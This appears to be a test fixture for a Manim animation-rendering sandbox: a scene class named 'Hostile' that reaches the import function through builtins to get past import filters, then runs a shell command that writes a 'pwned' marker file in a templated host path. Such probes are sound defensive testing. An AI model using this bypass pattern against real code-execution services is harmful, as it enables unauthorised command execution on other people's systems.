from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__import__")
        imp("subprocess").run(["sh", "-c", "touch {{HOSTTMP}}/pwned-{{TOKEN}}"])
        raise RuntimeError("ran a shell")
        self.play(Create(Circle()), run_time=0.1)
